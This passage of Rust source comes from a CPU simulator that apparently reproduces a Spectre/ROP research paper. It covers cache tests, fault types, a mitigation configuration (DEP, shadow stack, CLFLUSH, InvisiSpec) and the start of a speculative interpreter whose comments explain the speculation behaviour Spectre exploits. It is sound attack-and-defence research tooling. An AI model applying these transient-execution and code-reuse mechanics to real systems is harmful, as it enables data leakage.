        assert_eq!(c.access(0x1000), Lookup::Miss);
        assert_eq!(c.access(0x1000), Lookup::Hit);
        assert_eq!(c.access(0x103f), Lookup::Hit, "same 64-byte line");
        assert_eq!(c.access(0x1040), Lookup::Miss, "next line");
        assert_eq!(c.hits(), 2);
        assert_eq!(c.misses(), 2);
    }

    #[test]
    fn flush_evicts_line() {
        let mut c = Cache::new(CacheConfig::l1d());
        c.access(0x2000);
        assert!(c.probe(0x2000));
        c.flush(0x2010); // any address within the line
        assert!(!c.probe(0x2000));
        assert_eq!(c.access(0x2000), Lookup::Miss);
    }

    #[test]
    fn lru_evicts_least_recent() {
        // 2-way cache, one set: third distinct line evicts the LRU one.
        let cfg = CacheConfig { sets: 1, ways: 2, line_size: 64, hit_latency: 1 };
        let mut c = Cache::new(cfg);
        c.access(0); // line A
        c.access(64); // line B
        c.access(0); // touch A → B is now LRU
        c.access(128); // line C evicts B
        assert!(c.probe(0));
        assert!(!c.probe(64));
        assert!(c.probe(128));
    }

    #[test]
    fn set_conflict_eviction() {
        // Lines that map to the same set conflict; capacity eviction works.
        let cfg = CacheConfig { sets: 4, ways: 1, line_size: 64, hit_latency: 1 };
        let mut c = Cache::new(cfg);
        let stride = 4 * 64; // same set every `sets * line_size`
        c.access(0);
        c.access(stride);
        assert!(!c.probe(0), "direct-mapped conflict evicted the first line");
    }

    #[test]
    fn hierarchy_latency_ordering() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        let miss = h.access_data(0x8000);
        assert!(miss.is_memory_access());
        let hit = h.access_data(0x8000);
        assert!(hit.l1_hit);
        assert!(miss.latency > hit.latency * 10, "memory is much slower than L1");
    }

    #[test]
    fn l2_backstops_l1_eviction() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x4000);
        // Evict from L1 only.
        h.l1d.flush(0x4000);
        let r = h.access_data(0x4000);
        assert!(!r.l1_hit);
        assert!(r.l2_hit);
    }

    #[test]
    fn clflush_flushes_all_levels() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x4000);
        h.flush_line(0x4000);
        assert!(!h.data_resident(0x4000));
        let r = h.access_data(0x4000);
        assert!(r.is_memory_access());
    }

    #[test]
    fn instruction_and_data_paths_are_separate_at_l1() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_instr(0x1000);
        // The first *data* access to the same line misses L1D but hits L2.
        let r = h.access_data(0x1000);
        assert!(!r.l1_hit);
        assert!(r.l2_hit);
    }

    #[test]
    fn next_line_prefetcher_fills_the_adjacent_line() {
        let cfg = HierarchyConfig { next_line_prefetch: true, ..HierarchyConfig::default() };
        let mut h = CacheHierarchy::new(cfg);
        h.access_data(0x8000);
        assert!(h.data_resident(0x8040), "next line prefetched");
        assert_eq!(h.prefetch_fills(), 1);
        // A hit does not re-trigger the prefetcher.
        h.access_data(0x8000);
        assert_eq!(h.prefetch_fills(), 1);
        // The prefetched line hits without a demand miss.
        let r = h.access_data(0x8040);
        assert!(r.l1_hit);
    }

    #[test]
    fn prefetcher_is_off_by_default() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x8000);
        assert!(!h.data_resident(0x8040));
        assert_eq!(h.prefetch_fills(), 0);
    }

    #[test]
    #[should_panic(expected = "power of two")]
    fn bad_geometry_panics() {
        let _ = Cache::new(CacheConfig { sets: 3, ways: 1, line_size: 64, hit_latency: 1 });
    }

    /// Pins the shift/mask index math to the reference formula
    /// `(addr / line_size) mod sets` for every standard geometry, so a
    /// regression in the precomputed masks cannot slip through.
    #[test]
    fn set_index_matches_reference_for_presets() {
        for cfg in [CacheConfig::l1d(), CacheConfig::l1i(), CacheConfig::l2()] {
            let c = Cache::new(cfg);
            let addrs = [
                0u64,
                1,
                cfg.line_size - 1,
                cfg.line_size,
                cfg.line_size + 1,
                cfg.capacity() - 1,
                cfg.capacity(),
                0x1040,
                0xdead_beef,
                u64::MAX,
            ];
            for addr in addrs {
                let reference = ((addr / cfg.line_size) % cfg.sets as u64) as usize;
                assert_eq!(
                    c.set_index_of(addr),
                    reference,
                    "geometry {cfg:?}, addr {addr:#x}"
                );
            }
        }
    }

    /// Spot-checks concrete set numbers for the 64-set/64-byte-line L1
    /// presets so the constants themselves are pinned, not just the formula.
    #[test]
    fn l1_preset_set_numbers() {
        let c = Cache::new(CacheConfig::l1d());
        assert_eq!(c.set_index_of(0x0000), 0);
        assert_eq!(c.set_index_of(0x003f), 0, "same line");
        assert_eq!(c.set_index_of(0x0040), 1, "next line, next set");
        assert_eq!(c.set_index_of(0x0fc0), 63, "last set");
        assert_eq!(c.set_index_of(0x1000), 0, "wraps every sets*line_size bytes");
        let l2 = Cache::new(CacheConfig::l2());
        assert_eq!(l2.set_index_of(0x7fc0), 511, "L2 has 512 sets");
        assert_eq!(l2.set_index_of(0x8000), 0);
    }

    /// The MRU hint is an invisible optimization: hit/miss streams with and
    /// without repeated lines, plus flushes in between, behave exactly as
    /// the unhinted lookup would.
    #[test]
    fn mru_hint_is_transparent_across_flushes() {
        let mut c = Cache::new(CacheConfig::l1d());
        assert_eq!(c.access(0x1000), Lookup::Miss);
        assert_eq!(c.access(0x1000), Lookup::Hit, "hint hit");
        c.flush(0x1000);
        assert_eq!(c.access(0x1000), Lookup::Miss, "stale hint rejected after flush");
        c.flush_all();
        assert_eq!(c.access(0x1000), Lookup::Miss, "stale hint rejected after flush_all");
        assert_eq!(c.access(0x2000), Lookup::Miss, "different line ignores hint");
        assert_eq!(c.access(0x1000), Lookup::Hit, "full lookup still finds it");
        assert_eq!(c.hits(), 2);
        assert_eq!(c.misses(), 4);
    }

    /// The reference lookup path (`set_fast_path(false)`) produces the
    /// identical hit/miss stream and identical counters over a stream
    /// that exercises conflicts, repeats, and flushes.
    #[test]
    fn reference_path_matches_fast_path() {
        let run = |fast: bool| {
            let mut c = Cache::new(CacheConfig::l1d());
            c.set_fast_path(fast);
            let mut stream = Vec::new();
            for i in 0u64..600 {
                let addr = (i * 97) % 0x3000; // revisits lines and sets
                stream.push(c.access(addr));
                if i % 37 == 0 {
                    c.flush(addr);
                }
            }
            (stream, c.hits(), c.misses(), c.evictions())
        };
        assert_eq!(run(true), run(false));
    }
}

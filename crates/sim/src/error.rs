//! Faults and run outcomes.

use std::fmt;

use crate::mem::MemFault;

/// A fatal architectural fault that terminates a guest run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Fault {
    /// A memory-protection violation (includes DEP fetch faults).
    Mem(MemFault),
    /// Bytes at `pc` did not decode to an instruction.
    Decode {
        /// Program counter of the undecodable bytes.
        pc: u64,
    },
    /// A stack-canary check failed (stack smashing detected).
    CanarySmashed,
    /// The shadow stack disagreed with an architectural return address.
    ShadowStack {
        /// What the shadow stack recorded.
        expected: u64,
        /// Where the architectural `RET` tried to go.
        got: u64,
    },
    /// `CLFLUSH` executed while disabled for unprivileged code (§IV).
    ClflushDisabled,
    /// Unknown system-call number.
    BadSyscall {
        /// The offending syscall number.
        number: u64,
    },
    /// `exec` named a binary that is not registered with the machine.
    UnknownBinary {
        /// The requested name.
        name: String,
    },
    /// The configured instruction budget was exhausted.
    MaxInstructions,
    /// Guest called the abort syscall.
    Abort,
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Fault::Mem(m) => write!(f, "{m}"),
            Fault::Decode { pc } => write!(f, "undecodable instruction at {pc:#x}"),
            Fault::CanarySmashed => write!(f, "stack smashing detected"),
            Fault::ShadowStack { expected, got } => write!(
                f,
                "shadow stack violation: return to {got:#x}, expected {expected:#x}"
            ),
            Fault::ClflushDisabled => write!(f, "clflush disabled for unprivileged code"),
            Fault::BadSyscall { number } => write!(f, "unknown syscall {number}"),
            Fault::UnknownBinary { name } => write!(f, "exec of unknown binary {name:?}"),
            Fault::MaxInstructions => write!(f, "instruction budget exhausted"),
            Fault::Abort => write!(f, "guest aborted"),
        }
    }
}

impl std::error::Error for Fault {}

impl From<MemFault> for Fault {
    fn from(m: MemFault) -> Fault {
        Fault::Mem(m)
    }
}

/// Why a run stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExitReason {
    /// The guest executed `HALT`.
    Halted,
    /// The guest called the exit syscall with this code.
    Exited(u64),
    /// A fatal fault (the "program crashed").
    Fault(Fault),
}

impl ExitReason {
    /// True for a clean halt or `exit(0)`.
    pub fn is_clean(&self) -> bool {
        matches!(self, ExitReason::Halted | ExitReason::Exited(0))
    }
}

/// Summary of a completed guest run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunOutcome {
    /// Why the run stopped.
    pub exit: ExitReason,
    /// Architecturally retired instructions.
    pub instructions: u64,
    /// Elapsed cycles.
    pub cycles: u64,
}

impl RunOutcome {
    /// Instructions per cycle for the whole run.
    pub fn ipc(&self) -> f64 {
        if self.cycles == 0 {
            0.0
        } else {
            self.instructions as f64 / self.cycles as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mem::AccessKind;

    #[test]
    fn display_variants() {
        let faults = [
            Fault::Mem(MemFault { addr: 0x10, kind: AccessKind::Write }),
            Fault::Decode { pc: 0x20 },
            Fault::CanarySmashed,
            Fault::ShadowStack { expected: 1, got: 2 },
            Fault::ClflushDisabled,
            Fault::BadSyscall { number: 99 },
            Fault::UnknownBinary { name: "x".into() },
            Fault::MaxInstructions,
            Fault::Abort,
        ];
        for f in faults {
            assert!(!f.to_string().is_empty());
        }
    }

    #[test]
    fn clean_exits() {
        assert!(ExitReason::Halted.is_clean());
        assert!(ExitReason::Exited(0).is_clean());
        assert!(!ExitReason::Exited(1).is_clean());
        assert!(!ExitReason::Fault(Fault::CanarySmashed).is_clean());
    }

    #[test]
    fn outcome_ipc() {
        let o = RunOutcome { exit: ExitReason::Halted, instructions: 50, cycles: 100 };
        assert!((o.ipc() - 0.5).abs() < 1e-12);
        let z = RunOutcome { exit: ExitReason::Halted, instructions: 0, cycles: 0 };
        assert_eq!(z.ipc(), 0.0);
    }
}

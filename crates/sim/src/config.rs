//! Machine configuration: microarchitectural parameters and protections.

use crate::cache::HierarchyConfig;

/// Software/hardware mitigations that can be toggled per machine.
///
/// Defaults mirror the paper's testbed: DEP on (which is *why* the attack
/// needs ROP), ASLR and stack canaries off (the paper notes both exist and
/// are bypassable; experiments run with the adversary knowing addresses),
/// `CLFLUSH` available to unprivileged code, and no shadow stack. The
/// countermeasures of the paper's §IV are reproduced by flipping
/// [`clflush_enabled`](ProtectConfig::clflush_enabled) and
/// [`shadow_stack`](ProtectConfig::shadow_stack).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProtectConfig {
    /// Data Execution Prevention: data/stack pages are non-executable.
    pub dep: bool,
    /// Address-space layout randomization seed; `None` disables ASLR.
    pub aslr_seed: Option<u64>,
    /// Stack canaries (checked by assembler-emitted epilogues).
    pub stack_canary: bool,
    /// Hardware shadow stack: `RET` to a manipulated address faults.
    pub shadow_stack: bool,
    /// Whether unprivileged `CLFLUSH` is allowed (§IV countermeasure
    /// disables it, killing both the covert channel and Algorithm 2).
    pub clflush_enabled: bool,
    /// InvisiSpec-style invisible speculation (Yan et al., MICRO'18,
    /// discussed in the paper's §I): transient loads read through a
    /// speculative buffer and **never fill the cache**; every committed
    /// load pays a validation/re-load penalty
    /// ([`MachineConfig::invisispec_load_penalty`]).
    pub invisispec: bool,
    /// Context-Sensitive Fencing (Taram et al., ASPLOS'19, §I): microcode
    /// injects fences into the dynamic instruction stream, so branches
    /// serialize and no transient execution happens past them.
    pub csf: bool,
}

impl Default for ProtectConfig {
    fn default() -> ProtectConfig {
        ProtectConfig {
            dep: true,
            aslr_seed: None,
            stack_canary: false,
            shadow_stack: false,
            clflush_enabled: true,
            invisispec: false,
            csf: false,
        }
    }
}

/// Full machine configuration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MachineConfig {
    /// Guest physical memory size in bytes.
    pub mem_size: u64,
    /// Cache hierarchy geometry and latencies.
    pub caches: HierarchyConfig,
    /// Maximum number of instructions executed transiently past an
    /// unresolved branch (ROB-size analogue).
    pub spec_window: u64,
    /// Cycles lost re-steering the front end after a mispredict.
    pub mispredict_penalty: u64,
    /// Protections in force.
    pub protect: ProtectConfig,
    /// Validation cost added to every committed load under InvisiSpec
    /// (the re-load from the speculative buffer).
    pub invisispec_load_penalty: u64,
    /// Serialization cost added to every conditional branch under
    /// Context-Sensitive Fencing (the injected fence micro-ops).
    pub csf_fence_penalty: u64,
    /// Architectural instruction budget; exceeded → the run faults.
    pub max_instructions: u64,
    /// Stack size in bytes.
    pub stack_size: u64,
    /// Seed for machine-internal randomness (canary value, `getrand`).
    pub seed: u64,
    /// Execution fast path: predecoded-instruction cache plus the
    /// single-page permission cache in [`crate::mem::Memory`]. Purely an
    /// interpreter optimization — results are bit-identical either way
    /// (enforced by the `fastpath_equivalence` suite) — but it can be
    /// switched off to debug the simulator or to baseline the speedup.
    pub fast_path: bool,
}

impl Default for MachineConfig {
    fn default() -> MachineConfig {
        MachineConfig {
            mem_size: 16 * 1024 * 1024,
            caches: HierarchyConfig::default(),
            spec_window: 64,
            mispredict_penalty: 15,
            protect: ProtectConfig::default(),
            invisispec_load_penalty: 3,
            csf_fence_penalty: 2,
            max_instructions: 500_000_000,
            stack_size: 512 * 1024,
            seed: 0xc0ffee,
            fast_path: true,
        }
    }
}

impl MachineConfig {
    /// A configuration with every mitigation of the paper's §IV enabled:
    /// `CLFLUSH` disabled for guest code and a shadow stack checking every
    /// return.
    pub fn hardened() -> MachineConfig {
        MachineConfig {
            protect: ProtectConfig {
                clflush_enabled: false,
                shadow_stack: true,
                ..ProtectConfig::default()
            },
            ..MachineConfig::default()
        }
    }

    /// InvisiSpec machine (§I related-work defense): speculation leaves no
    /// cache footprint; loads pay the validation penalty.
    pub fn invisispec() -> MachineConfig {
        MachineConfig {
            protect: ProtectConfig { invisispec: true, ..ProtectConfig::default() },
            ..MachineConfig::default()
        }
    }

    /// Context-Sensitive-Fencing machine (§I related-work defense):
    /// branches serialize, transient execution is fenced out.
    pub fn csf() -> MachineConfig {
        MachineConfig {
            protect: ProtectConfig { csf: true, ..ProtectConfig::default() },
            ..MachineConfig::default()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_model_the_paper_testbed() {
        let c = MachineConfig::default();
        assert!(c.protect.dep, "DEP forces code reuse");
        assert!(c.protect.clflush_enabled);
        assert!(!c.protect.shadow_stack);
        assert!(c.spec_window >= 8, "enough transient depth for Spectre v1");
        assert!(c.fast_path, "fast path is the default; slow path is the debug hatch");
    }

    #[test]
    fn hardened_flips_countermeasures() {
        let c = MachineConfig::hardened();
        assert!(!c.protect.clflush_enabled);
        assert!(c.protect.shadow_stack);
    }
}

//! The machine: a speculative in-order core over the memory, cache,
//! predictor and PMU substrates.
//!
//! # Timing model
//!
//! The core is an interpreter with a *scoreboard* timing model:
//!
//! * every instruction costs one base cycle;
//! * a load issues in one cycle but its destination register only becomes
//!   *ready* after the cache latency — a later consumer stalls until then
//!   (counted as [`HpcEvent::StallCyclesMem`]);
//! * correctly predicted branches cost one cycle regardless of when their
//!   operands resolve (prediction hides latency);
//! * a mispredicted branch transiently executes the wrong path until the
//!   branch can resolve (operands ready + a fixed resolve delay), then
//!   squashes and pays [`MachineConfig::mispredict_penalty`].
//!
//! # Speculation semantics (the Spectre vulnerability)
//!
//! Transient execution runs on shadow registers with a byte-granular store
//! buffer; at squash every architectural effect is discarded **but cache
//! fills, cache flushes and PMU cache-event counts persist**. Faults during
//! transient execution are suppressed. This is precisely the behaviour
//! Spectre exploits and the behaviour hardware-assisted detectors observe
//! through performance counters.

use std::cell::Cell;
use std::collections::{BTreeMap, HashMap};

use rand::rngs::StdRng;
use rand::{RngCore, SeedableRng};

use crate::cache::CacheHierarchy;
use crate::config::MachineConfig;
use crate::error::{ExitReason, Fault, RunOutcome};
use crate::image::{Image, LoadedImage, SegKind};
use crate::isa::{AluOp, Instr, Reg, Width, INSTR_BYTES};
use crate::mem::{Memory, Perms, PAGE_SIZE};
use crate::pmu::{HpcEvent, Pmu};
use crate::branch::Predictor;
use cr_spectre_telemetry as telemetry;

/// System-call numbers understood by the machine.
pub mod sys {
    /// `exit(code)` — ends the current image; ends the run at top level.
    pub const EXIT: u64 = 0;
    /// `write(ptr, len)` — append bytes to the machine's stdout buffer.
    pub const WRITE: u64 = 1;
    /// `exec(name_ptr)` — inject and run a registered binary in-process.
    pub const EXEC: u64 = 2;
    /// `abort()` — raise [`crate::error::Fault::Abort`] (canary failures).
    pub const ABORT: u64 = 3;
    /// `getrand()` — return a machine-seeded random `u64` in `r0`.
    pub const GETRAND: u64 = 4;
}

/// Guest address of the machine info page (holds the stack canary).
pub const INFO_PAGE: u64 = 0x1000;
/// Guest address where the canary value lives.
pub const CANARY_ADDR: u64 = INFO_PAGE;
/// Guest address of the argument area.
pub const ARG_BASE: u64 = 0x2000;
/// Size of the argument area in bytes.
pub const ARG_SIZE: u64 = 4 * PAGE_SIZE;
/// First base address used for loaded images.
pub const IMAGE_BASE: u64 = 0x10000;
/// Base of the bump-allocated heap region.
pub const HEAP_BASE: u64 = 0x0080_0000;

/// Result of one architectural step.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StepStatus {
    /// The machine can keep stepping.
    Running,
    /// The run is over (cleanly or by fault).
    Done(ExitReason),
}

/// Number of slots in the predecoded-instruction cache. Power of two;
/// covers 32 KiB of straight-line guest text (4096 slots × 8-byte
/// instructions), comfortably more than any campaign workload image.
const DECODE_SLOTS: usize = 4096;

/// Direct-mapped software cache of decoded instructions, keyed by guest PC.
///
/// Validity is epoch-based: [`Memory::code_epoch`] moves on any mutation
/// that could change fetched bytes (`poke`, a store into an executable
/// page, any permission change), and the whole cache is dropped on the
/// next lookup. A hit therefore proves both that the bytes are unchanged
/// *and* that the page was fetchable when the entry was filled — which is
/// what lets a hit skip the permission walk and the decode entirely.
#[derive(Debug, Clone)]
struct DecodeCache {
    /// Guest PC tags; `u64::MAX` marks an invalid slot (that address can
    /// never fetch successfully — it is out of bounds by construction).
    tags: Box<[u64; DECODE_SLOTS]>,
    /// Decoded instructions parallel to `tags`. Fixed-size arrays (not
    /// boxed slices) so the masked slot index provably needs no bounds
    /// check.
    instrs: Box<[Instr; DECODE_SLOTS]>,
    /// The [`Memory::code_epoch`] the current entries were filled under.
    epoch: u64,
}

impl DecodeCache {
    fn new() -> DecodeCache {
        DecodeCache {
            tags: Box::new([u64::MAX; DECODE_SLOTS]),
            instrs: Box::new([Instr::Nop; DECODE_SLOTS]),
            epoch: 0,
        }
    }

    #[inline]
    fn slot(pc: u64) -> usize {
        ((pc / INSTR_BYTES as u64) as usize) & (DECODE_SLOTS - 1)
    }

    fn clear(&mut self, epoch: u64) {
        self.tags.fill(u64::MAX);
        self.epoch = epoch;
    }
}

/// Who is asking for an instruction; decides which side effects
/// [`Machine::fetch_decode`] performs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum FetchMode {
    /// Architectural step: icache access, L1i counters, miss latency.
    Step,
    /// Transient fetch: icache access and L1i counters, but no cycle
    /// charge (the speculation loop tracks its own relative time).
    Spec,
    /// Pure lookahead (the tracer): no microarchitectural effects at all.
    Peek,
}

/// Why [`Machine::fetch_decode`] failed.
enum FetchFail {
    /// Permission or bounds fault from [`Memory::fetch`].
    Mem(crate::mem::MemFault),
    /// Bytes were fetched but do not decode.
    Decode,
}

/// The simulated machine.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::cpu::Machine;
/// use cr_spectre_sim::config::MachineConfig;
/// use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
/// use cr_spectre_sim::isa::{Instr, Reg};
///
/// let text: Vec<u8> = [Instr::Ldi(Reg::R1, 7), Instr::Halt]
///     .iter()
///     .flat_map(|i| i.encode())
///     .collect();
/// let image = Image::new(
///     "demo",
///     vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes: text }],
///     0,
/// );
/// let mut machine = Machine::new(MachineConfig::default());
/// let loaded = machine.load(&image)?;
/// machine.start(loaded.entry);
/// let outcome = machine.run();
/// assert!(outcome.exit.is_clean());
/// assert_eq!(machine.reg(Reg::R1), 7);
/// # Ok::<(), cr_spectre_sim::error::Fault>(())
/// ```
#[derive(Debug, Clone)]
pub struct Machine {
    cfg: MachineConfig,
    mem: Memory,
    caches: CacheHierarchy,
    pred: Predictor,
    pmu: Pmu,
    regs: [u64; 16],
    reg_ready: [u64; 16],
    pc: u64,
    cycle: u64,
    retired: u64,
    stopped: Option<ExitReason>,
    registry: BTreeMap<String, Image>,
    loaded: Vec<LoadedImage>,
    exec_returns: Vec<u64>,
    /// Cycle spans of in-process `exec` injections: `(start, end)`; `end`
    /// is `u64::MAX` while the injected image still runs.
    exec_spans: Vec<(u64, u64)>,
    next_base: u64,
    heap_next: u64,
    stack_lo: u64,
    stack_hi: u64,
    stdout: Vec<u8>,
    shadow_stack: Vec<u64>,
    canary: u64,
    rng: StdRng,
    last_evictions: Cell<u64>,
    /// Predecoded-instruction cache (the execution fast path).
    dcache: DecodeCache,
    /// L1i `[access, hit, miss]` counts for *non-coalesced* fetches (the
    /// first fetch on a new line) accumulated since the last PMU flush;
    /// mirrored into the PMU lazily when it is observed ([`Machine::pmu`])
    /// and at speculation squash. `Cell` so the reconciliation can run
    /// from shared-reference accessors.
    pend_l1i: [Cell<u64>; 3],
    /// Portion of `cycle` already mirrored into [`HpcEvent::Cycles`].
    cycles_flushed: Cell<u64>,
    /// Portion of `retired` already mirrored into
    /// [`HpcEvent::Instructions`].
    instrs_flushed: Cell<u64>,
    /// Hit coalescer for instruction fetches (tracks a few hot L1i
    /// lines; see [`FetchCoalescer`]). Batched hits are applied via
    /// [`Machine::apply_pending_ifetches`] before anything can observe
    /// or disturb L1i state.
    icoal: FetchCoalescer,
    /// Hit coalescer for data accesses — the L1d twin of `icoal`,
    /// applied via [`Machine::apply_pending_dfetches`]. Each batched hit
    /// is worth `L1dAccess` + `L1dHit` + `TotalCacheAccess` in the PMU
    /// (instruction hits are `L1iAccess` + `L1iHit`).
    dcoal: FetchCoalescer,
    /// The L1d hit latency (a coalesced hit's access result).
    l1d_hit_latency: u64,
}

/// Lines tracked per [`FetchCoalescer`]: enough for a hot loop spanning
/// a few instruction lines plus its working-set data lines.
const COALESCE_WAYS: usize = 4;

/// Coalesces cache hits on a small set of hot lines.
///
/// A line enters the table when it is *proven resident* (a real model
/// access just touched it, or a read-only probe found it). From then on,
/// accesses to tracked lines only bump counters here — no cache-model
/// work at all. That is sound because between batch applications only
/// hits happen (any potential miss, flush, reset or observation applies
/// the batch first), and hits never evict, so tracked lines stay
/// resident for the whole batch.
///
/// Bit-exact replay: the model's final state after `n` interleaved hits
/// is `tick += n`, `hits += n`, and each line's LRU stamp equal to the
/// tick of its *last* hit. Recording a per-line `last_seq` (position in
/// the batch) reproduces exactly that via [`Cache::bulk_batch`].
#[derive(Debug, Clone)]
struct FetchCoalescer {
    /// Tracked line addresses; `u64::MAX` = empty slot.
    lines: [u64; COALESCE_WAYS],
    /// Batched hit count per tracked line.
    counts: [u64; COALESCE_WAYS],
    /// Batch sequence number of each line's most recent hit.
    last_seq: [u64; COALESCE_WAYS],
    /// Slot of the most recent hit — checked first, so a run of
    /// accesses to one line costs a single compare.
    mru: usize,
    /// Total batched hits (== the running sequence number). `Cell` so
    /// [`Machine::flush_pending_counters`] can read it from `&self`.
    pending: Cell<u64>,
    /// Portion of `pending` already mirrored into the PMU (always ≤
    /// `pending`).
    accounted: Cell<u64>,
    /// `!(line_size - 1)`, precomputed at construction.
    line_mask: u64,
}

impl FetchCoalescer {
    fn new(line_size: u64) -> FetchCoalescer {
        FetchCoalescer {
            lines: [u64::MAX; COALESCE_WAYS],
            counts: [0; COALESCE_WAYS],
            last_seq: [0; COALESCE_WAYS],
            mru: 0,
            pending: Cell::new(0),
            accounted: Cell::new(0),
            line_mask: !(line_size - 1),
        }
    }

    /// Records a hit on `line` if it is tracked. The hot path: one
    /// compare against the MRU slot (same-line runs), falling back to a
    /// scan of the other [`COALESCE_WAYS`] slots.
    #[inline(always)]
    fn note(&mut self, line: u64) -> bool {
        let m = self.mru;
        if self.lines[m] == line {
            let seq = self.pending.get() + 1;
            self.pending.set(seq);
            self.counts[m] += 1;
            self.last_seq[m] = seq;
            return true;
        }
        self.note_scan(line)
    }

    /// The non-MRU half of [`FetchCoalescer::note`].
    fn note_scan(&mut self, line: u64) -> bool {
        for i in 0..COALESCE_WAYS {
            if self.lines[i] == line {
                let seq = self.pending.get() + 1;
                self.pending.set(seq);
                self.counts[i] += 1;
                self.last_seq[i] = seq;
                self.mru = i;
                return true;
            }
        }
        false
    }

    /// Starts tracking `line`, counting this access as a batched hit.
    /// The caller must have proven the line resident and must only call
    /// this with a free slot available (`free_slot`).
    #[inline]
    fn insert_hit(&mut self, slot: usize, line: u64) {
        let seq = self.pending.get() + 1;
        self.pending.set(seq);
        self.lines[slot] = line;
        self.counts[slot] = 1;
        self.last_seq[slot] = seq;
        self.mru = slot;
    }

    /// Starts tracking `line` with no batched hits — used right after a
    /// real model access already accounted for the current access.
    #[inline]
    fn insert_seeded(&mut self, slot: usize, line: u64) {
        self.lines[slot] = line;
        self.counts[slot] = 0;
        self.last_seq[slot] = 0;
        self.mru = slot;
    }

    /// An empty slot, if any.
    #[inline]
    fn free_slot(&self) -> Option<usize> {
        (0..COALESCE_WAYS).find(|&i| self.lines[i] == u64::MAX)
    }

    /// Drains the batch: returns `(entries, total, accounted)` where
    /// `entries` holds `(line, last_seq)` for every line with batched
    /// hits. Resets the table.
    fn drain(&mut self) -> ([(u64, u64); COALESCE_WAYS], usize, u64, u64) {
        let total = self.pending.replace(0);
        let accounted = self.accounted.replace(0);
        let mut entries = [(0u64, 0u64); COALESCE_WAYS];
        let mut n = 0;
        for i in 0..COALESCE_WAYS {
            if self.lines[i] != u64::MAX && self.counts[i] > 0 {
                entries[n] = (self.lines[i], self.last_seq[i]);
                n += 1;
            }
        }
        self.lines = [u64::MAX; COALESCE_WAYS];
        self.counts = [0; COALESCE_WAYS];
        self.last_seq = [0; COALESCE_WAYS];
        self.mru = 0;
        (entries, n, total, accounted)
    }
}

/// Increments a batched `Cell` counter (plain load + store).
#[inline]
fn bump(c: &Cell<u64>) {
    c.set(c.get() + 1);
}

impl Machine {
    /// Creates a machine with the standard memory layout: guard page at 0,
    /// info page, argument area, image space, heap, and a stack below the
    /// top of memory.
    pub fn new(cfg: MachineConfig) -> Machine {
        let mut rng = StdRng::seed_from_u64(cfg.seed);
        let mut mem = Memory::new(cfg.mem_size);
        mem.set_fast_path(cfg.fast_path);
        // Info page: readable by guests (canary value lives here).
        mem.set_perms(INFO_PAGE, PAGE_SIZE, Perms::R);
        let canary = rng.next_u64() | 0xff; // never contains a zero low byte
        mem.poke(CANARY_ADDR, &canary.to_le_bytes());
        // Argument area.
        mem.set_perms(ARG_BASE, ARG_SIZE, Perms::RW);
        // Stack below a top guard page.
        let stack_hi = cfg.mem_size - PAGE_SIZE;
        let stack_lo = stack_hi - cfg.stack_size;
        let stack_perms = if cfg.protect.dep { Perms::RW } else { Perms::RWX };
        mem.set_perms(stack_lo, cfg.stack_size, stack_perms);
        let mut caches = CacheHierarchy::new(cfg.caches);
        caches.set_fast_path(cfg.fast_path);
        Machine {
            caches,
            pred: Predictor::new(),
            pmu: Pmu::new(),
            regs: [0; 16],
            reg_ready: [0; 16],
            pc: 0,
            cycle: 0,
            retired: 0,
            stopped: None,
            registry: BTreeMap::new(),
            loaded: Vec::new(),
            exec_returns: Vec::new(),
            exec_spans: Vec::new(),
            next_base: IMAGE_BASE,
            heap_next: HEAP_BASE,
            stack_lo,
            stack_hi,
            stdout: Vec::new(),
            shadow_stack: Vec::new(),
            canary,
            rng,
            last_evictions: Cell::new(0),
            dcache: DecodeCache::new(),
            pend_l1i: [const { Cell::new(0) }; 3],
            cycles_flushed: Cell::new(0),
            instrs_flushed: Cell::new(0),
            icoal: FetchCoalescer::new(cfg.caches.l1i.line_size),
            dcoal: FetchCoalescer::new(cfg.caches.l1d.line_size),
            l1d_hit_latency: cfg.caches.l1d.hit_latency,
            mem,
            cfg,
        }
    }

    // ---------------------------------------------------------------
    // Loading and process setup
    // ---------------------------------------------------------------

    /// Registers an image so the `exec` syscall can inject it by name.
    pub fn register_image(&mut self, image: Image) {
        self.registry.insert(image.name.clone(), image);
    }

    /// Places an image in guest memory, applying ASLR slide (if enabled)
    /// and relocations. Returns the resolved [`LoadedImage`].
    ///
    /// # Errors
    ///
    /// Returns a [`Fault`] if the image does not fit in memory.
    pub fn load(&mut self, image: &Image) -> Result<LoadedImage, Fault> {
        let size = image.size();
        let mut base = self.next_base;
        if self.cfg.protect.aslr_seed.is_some() {
            let slide_pages = self.rng.next_u64() % 256;
            base += slide_pages * PAGE_SIZE;
        }
        if base + size >= self.heap_next.min(self.stack_lo) {
            return Err(Fault::Mem(crate::mem::MemFault {
                addr: base,
                kind: crate::mem::AccessKind::Write,
            }));
        }
        let mut exec_ranges = Vec::new();
        for seg in &image.segments {
            assert_eq!(
                seg.offset % PAGE_SIZE,
                0,
                "segment {} is not page-aligned",
                seg.name
            );
            let addr = base + seg.offset;
            self.mem.poke(addr, &seg.bytes);
            let perms = if self.cfg.protect.dep {
                seg.kind.default_perms()
            } else {
                Perms::RWX
            };
            self.mem
                .set_perms(addr, (seg.bytes.len() as u64).max(1), perms);
            if seg.kind == SegKind::Text {
                exec_ranges.push((addr, addr + seg.bytes.len() as u64));
            }
        }
        for reloc in &image.relocs {
            let field = base + reloc.at;
            let target = base + reloc.addend;
            match reloc.kind {
